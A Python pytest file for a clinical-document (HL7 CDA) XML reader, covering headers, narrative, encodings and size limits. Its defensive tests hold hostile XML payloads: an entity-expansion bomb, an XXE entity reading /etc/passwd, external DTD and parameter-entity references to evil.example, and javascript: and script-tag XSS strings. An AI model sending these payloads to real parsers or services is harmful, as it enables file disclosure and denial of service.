"""Clinical documents as people read them (HL7 CDA R1 and R2; REQ-TXT-7), and what hostile XML may not do."""

from __future__ import annotations

import base64
import contextlib
import random
import time
from typing import TYPE_CHECKING

import pytest

from made_clinical_documents import R1, R2, r2_body, r2_text
from openwado.document import xml_tree
from openwado.document.clinical_document import read_clinical_document
from openwado.document.model import Code, Document, Entries, Grid, Paragraph, Run, Section
from openwado.errors import CorruptObject, WadoError

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

    from openwado.document.model import Node

START = '<?xml version="1.0"?>'


def words_of(nodes: Iterable[Node]) -> Iterator[str]:
    """Yield all text of nodes, in order."""
    for node in nodes:
        if isinstance(node, Paragraph):
            yield "".join(run.text for run in node.runs)
        elif isinstance(node, Section):
            yield node.heading
            yield from words_of(node.nodes)
        elif isinstance(node, Entries):
            yield node.caption
            for entry in node.entries:
                yield from words_of(entry)
        elif isinstance(node, Grid):
            yield node.caption
            for row in node.rows:
                for cell in row:
                    yield from words_of(cell.nodes)


def text_of(document: Document) -> str:
    """Return all text of the body."""
    return "\n".join(filter(None, words_of(document.nodes)))


def facts_of(document: Document) -> dict[str, list[str]]:
    """Return the values of the header by label."""
    found: dict[str, list[str]] = {}
    for fact in (fact for group in document.groups for fact in group.facts):
        found.setdefault(fact.label, []).append(fact.value)
    return found


def section_of(narrative: str) -> tuple[Node, ...]:
    """Return the nodes of one section with a narrative."""
    (section,) = read_clinical_document(r2_text(narrative).encode()).nodes
    assert isinstance(section, Section)
    return section.nodes


def runs_of(narrative: str) -> tuple[Run, ...]:
    """Return the runs of a narrative that is one paragraph."""
    (paragraph,) = section_of(narrative)
    assert isinstance(paragraph, Paragraph)
    return paragraph.runs


def test_the_header_says_whose_and_by_whom() -> None:
    """Names in Chinese and German, dates and codes as people read them; several authors in order."""
    document = read_clinical_document(R2.encode(), "zh-CN")
    assert document.title == "出院小结 / Entlassungsbrief"
    assert document.title_code == Code("Arztbrief", "11490-0", "LOINC")
    assert document.shown_code is None
    facts = facts_of(document)
    assert facts["name"] == ["王小东"]
    assert facts["patient id"] == ["患者-1"]
    assert (facts["birth date"], facts["sex"]) == (["1980-02-29"], ["男"])
    assert facts["content date"] == ["2026-01-31 09:30:12 +01:00"]
    assert facts["confidentiality"] == ["受限"]
    assert facts["author"] == ["Müller, Dr. Jürgen; Universitätsklinik; 2026-01-31", "Writer 3; 2026-01-30"]
    assert facts["custodian"] == ["协和医院"]
    assert facts["legal authenticator"] == ["Prof. Weiß; 2026-01-31 12:00"]
    assert facts["service"] == ["CT Thorax; 2026-01-29 - 2026-01-30"]


def test_sections_stand_in_one_another() -> None:
    """Title, else code; place; narrative before what is inside; entries alone are counted."""
    first, second = read_clinical_document(R2.encode()).nodes
    assert isinstance(first, Section)
    assert isinstance(second, Section)
    assert (first.heading, first.anchor) == ("Anamnese", "doc-s1")
    assert first.code == Code("Reason", "29299-5", "LOINC")
    assert isinstance(first.nodes[-1], Section)
    assert first.nodes[-1].heading == "Labor"
    assert second.heading == "Vital signs"
    assert list(words_of(second.nodes)) == ["Coded entries without a text: 2."]


def test_no_word_of_the_narrative_is_lost() -> None:
    """Also of what nobody knows, and of what stands where it may not."""
    text = text_of(read_clinical_document(R2.encode()))
    for word in ("Heute", "nie geraucht", "Raucher", "Medikamente", "ASS", "morgens", "阿莫西林", "oben", "dort"):
        assert word in text
    for word in ("Röntgenbild", "left.gif", "nicht verloren", "Ehefrau", "Blutbild", "Fuß", "stray", "tief"):
        assert word in text
    assert "evil" not in text
    assert text.index("12.5") < text.index("Fuß")


def test_a_document_of_the_first_release() -> None:
    """R1: header and body are written otherwise, and say the same."""
    document = read_clinical_document(R1.encode())
    facts = facts_of(document)
    assert (document.title, facts["name"], facts["sex"]) == ("Consultation note", ["Levin, Henry, the 7th"], ["male"])
    assert facts["provider"] == ["Dolin, Robert, MD; 2000-04-07"]
    assert facts["custodian"] == ["Good Health Clinic"]
    (history,) = document.nodes
    assert isinstance(history, Section)
    assert history.heading == "History"
    assert history.code == Code("", "8684-3", "2.16.840.1.113883.6.1")
    assert [type(node) for node in history.nodes] == [Paragraph, Section]
    assert "BP 118/78\nT 36.9 C\nWBC\n6.7" in text_of(document)


def test_styles_links_and_breaks() -> None:
    """Style codes, sub and sup, places in the document, addresses elsewhere, ends of line."""
    runs = runs_of(
        'a <content styleCode="Bold">b</content><content styleCode="xCustom Underline">u</content>'
        '<sub>s</sub><br/> c <linkHtml href="#p 1">here</linkHtml><linkHtml href="javascript:alert(1)"/>'
    )
    assert runs == (
        Run("a "),
        Run("b", "bold"),
        Run("u", "underline"),
        Run("s", "sub"),
        Run("\n"),
        Run("c "),
        Run("here", "", "#doc-p_1"),
        Run("javascript:alert(1)", "", "javascript:alert(1)"),
    )


def test_struck_text_says_so() -> None:
    """CDA R2 4.3.5.1: what was deleted may not be taken for what holds."""
    assert runs_of('x <content revised="delete">no fever</content>') == (Run("x [deleted: no fever]"),)


def test_lists_and_tables() -> None:
    """Numbers, captions, nesting; heads and spans, within bounds."""
    (made,) = section_of(
        '<list listType="ordered"><caption>C</caption><item>a<list><item>b</item></list></item></list>'
    )
    assert made == Entries(
        ((Paragraph((Run("a"),)), Entries(((Paragraph((Run("b"),)),),))),), numbered=True, caption="C"
    )
    (grid,) = section_of(
        '<table><thead><tr><td colspan="2">h</td></tr></thead><tr><th rowspan="99999">r</th><td colspan="x">d</td>'
        '<td colspan="-3"/></tr></table>'
    )
    assert isinstance(grid, Grid)
    spans = [[(cell.is_head, cell.columns, cell.rows) for cell in row] for row in grid.rows]
    assert spans == [[(True, 2, 1)], [(True, 1, 100), (False, 1, 1), (False, 1, 1)]]


def test_footnotes_stand_below_the_text() -> None:
    """Each has one number, whether it or a reference to it comes first; all that is in it stays."""
    nodes = section_of(
        'x<footnoteRef IDREF="b"/> y<footnote ID="a">first<list><item>more</item></list></footnote>'
        ' z<footnote ID="b">second</footnote>'
    )
    assert "\n".join(filter(None, words_of(nodes))) == "x[1] y[2] z[1]\n[2] first\nmore\n[1] second"
    assert isinstance(nodes[1], Paragraph)
    assert nodes[1].anchor == "doc-note-2"


def test_bodies_that_are_no_xml() -> None:
    """Plain text is shown line by line; of other types the type and size are told; nothing is fetched."""
    encoded = base64.b64encode("Zeile 1\nZeile ä".encode()).decode()
    plain = r2_body(f'<nonXMLBody><text mediaType="text/plain" representation="B64">{encoded}</text></nonXMLBody>')
    assert text_of(read_clinical_document(plain.encode())) == "Zeile 1\nZeile ä"
    bare = r2_body("<nonXMLBody><text>a\n\n b </text></nonXMLBody>")
    assert text_of(read_clinical_document(bare.encode())) == "a\n b "
    pdf = r2_body('<nonXMLBody><text mediaType="application/pdf" representation="B64">JVBERi0=</text></nonXMLBody>')
    assert "of type application/pdf (5 bytes)" in text_of(read_clinical_document(pdf.encode()))
    far = r2_body('<nonXMLBody><text mediaType="text/plain"><reference value="http://x/{y}"/></text></nonXMLBody>')
    assert "not fetched: http://x/{y}" in text_of(read_clinical_document(far.encode()))


def test_markup_in_texts_stays_text() -> None:
    """Whatever is escaped in the document is a text for the writers, which escape it."""
    evil = "&lt;script&gt;alert(1)&lt;/script&gt;&quot;&#39;"
    document = read_clinical_document(
        r2_body(
            f"<structuredBody><component><section ID='{evil}'><title>{evil}</title><text><paragraph ID='{evil}'>{evil}"
            f"<linkHtml href='{evil}'>{evil}</linkHtml></paragraph></text></section></component></structuredBody>",
            f"<author><assignedAuthor><assignedPerson><name>{evil}</name></assignedPerson></assignedAuthor></author>",
        ).encode()
    )
    said = "<script>alert(1)</script>\"'"
    assert facts_of(document)["author"] == [said]
    (section,) = document.nodes
    assert isinstance(section, Section)
    assert section.heading == said
    assert section.anchor.replace("doc-", "").replace("_", "").isalnum()


def test_other_xml_gives_its_text() -> None:
    """A document that is no clinical document is not shown as an empty one."""
    text = text_of(read_clinical_document(b"<order><item>Milk</item><item>Bread</item></order>"))
    assert text == "This XML document is no clinical document. Its text:\nMilk\nBread"
    empty = read_clinical_document(b"<ClinicalDocument/>")
    assert empty.title == ""


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "gbk", "gb18030", "gb2312", "big5"]
)
def test_encodings_of_chinese(encoding: str) -> None:
    """By mark, by the first bytes, or as declared; also beyond what pyexpat knows."""
    declared = encoding.removesuffix("-sig")
    xml = f'<?xml version="1.0" encoding="{declared}"?>' + r2_text("中文")
    assert text_of(read_clinical_document(xml.encode(encoding))) == "中文"


def test_other_encodings() -> None:
    """Latin sets; padding; a declaration that cannot be true; none at all."""
    for encoding in ("iso-8859-1", "windows-1252", "ISO-8859-15", "us-ascii"):
        word = "Koeln" if encoding == "us-ascii" else "Köln"
        data = f"<?xml version='1.0' encoding='{encoding}'?>{r2_text(word)}".encode(encoding)
        assert text_of(read_clinical_document(data)) == word
    assert text_of(read_clinical_document(r2_text("Köln").encode() + b"\0")) == "Köln"
    xml = f'<?xml version="1.0" encoding="utf-16"?>{r2_text("Köln")}'
    assert text_of(read_clinical_document(xml.encode())) == "Köln"


BOMB = "".join(f'<!ENTITY e{number} "{f"&e{number - 1};" * 10}">' for number in range(1, 10))


@pytest.mark.parametrize(
    ("xml", "reason"),
    [
        (f'{START}<!DOCTYPE x [<!ENTITY e0 "lol">{BOMB}]><x>&e9;</x>', "document type"),
        (f'{START}<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', "document type"),
        (f'{START}<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>', "document type"),
        (f'{START}<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><x/>', "document type"),
        (f"{START}<!DOCTYPE x><x/>", "document type"),
        (f'{START}<!DOCTYPE x [<!ENTITY a "{"a" * 100000}">]><x>{"&a;" * 10000}</x>', "document type"),
        (f"{START}<x>&unknown;</x>", "well-formed"),
        ("<x>" * 100_000, "deeply nested"),
        (f"<x>{'<y/>' * 200_001}</x>", "too large"),
        ("<x><y></x>", "well-formed in line 1"),
        (r2_text("text")[:-30], "well-formed"),
        ("", "well-formed"),
        ("no xml", "well-formed"),
        ("<x>\x01</x>", "well-formed"),
        ('<?xml version="1.0" encoding="utf-7"?><x/>', "character set is not known"),
        ('<?xml version="1.0" encoding="punycode"?><x/>', "character set is not known"),
    ],
)
def test_hostile_xml_is_refused(xml: str, reason: str) -> None:
    """No document type, entity or reference is read; size and depth are bounded; the sentence shows nothing of it."""
    started = time.monotonic()
    with pytest.raises(CorruptObject) as refused:
        read_clinical_document(xml.encode())
    assert reason in refused.value.public
    assert time.monotonic() - started < 30  # and not for ever


def test_bytes_of_another_character_set_are_refused() -> None:
    """What is declared as UTF-8 and is none would be read wrongly."""
    for data in (r2_text("Köln").encode("latin-1"), b"\xff\xfe<\0x", b"<\0x\0/\0>\0\xd8\xd8"):
        with pytest.raises(CorruptObject, match=r"character set|well-formed"):
            read_clinical_document(data)


def test_size_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    """Bytes before they are decoded, characters of texts and attributes while they are read."""
    monkeypatch.setattr(xml_tree, "CHARACTERS_MAX", 1000)
    for xml in (r2_text("x" * 1001), f'<x y="{"x" * 1001}"/>'):
        with pytest.raises(CorruptObject, match="too large"):
            read_clinical_document(xml.encode())
    monkeypatch.setattr(xml_tree, "BYTES_MAX", 100)
    with pytest.raises(CorruptObject, match="too large"):
        read_clinical_document(r2_text("x" * 100).encode())


@pytest.mark.parametrize(
    "narrative",
    [
        "a<x/>" * 100_000,
        "<content>a </content>" * 100_000,
        "<footnote>a</footnote>" * 50_000,
        "<list><item>" * 40 + "x" + "</item></list>" * 40,
        '<footnoteRef IDREF="a"/>' * 50_000,
        '<table><tr><td colspan="100" rowspan="100">a</td></tr></table>' * 10_000,
    ],
)
def test_many_pieces_take_no_time(narrative: str) -> None:
    """Work grows with the document, not faster."""
    started = time.monotonic()
    read_clinical_document(r2_text(narrative).encode())
    assert time.monotonic() - started < 10


def test_broken_documents_give_a_document_or_a_public_error() -> None:
    """Whatever is changed, moved or missing."""
    chance = random.Random(20261126)  # noqa: S311 -- to be repeated, not secret
    names = ("section", "text", "component", "footnote", "table", "tr", "caption", "title", "name", "list", "br")
    for _ in range(1500):
        xml = chance.choice((R1, R2))
        for _ in range(chance.randint(1, 8)):
            first, second = chance.choice(names), chance.choice(names)
            xml = xml.replace(f"<{first}", f"<{second}").replace(f"</{first}>", f"</{second}>")
        data = bytearray(xml.encode())
        if chance.random() < 0.2:
            data[chance.randrange(len(data))] = chance.randrange(256)
        with contextlib.suppress(WadoError):
            read_clinical_document(bytes(data))
